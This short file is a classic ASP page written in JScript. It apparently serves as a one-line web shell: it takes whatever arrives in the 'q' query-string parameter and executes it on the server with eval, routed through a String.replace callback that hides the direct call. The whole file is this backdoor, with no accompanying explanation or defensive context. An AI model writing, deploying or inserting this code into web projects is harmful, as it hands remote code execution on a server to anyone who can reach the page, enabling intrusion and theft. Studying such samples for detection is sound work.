<%@ Language="JScript" %>
<%
var text = Request.QueryString("q") + "";
text.replace(/[\s\S]+/, eval);
%>
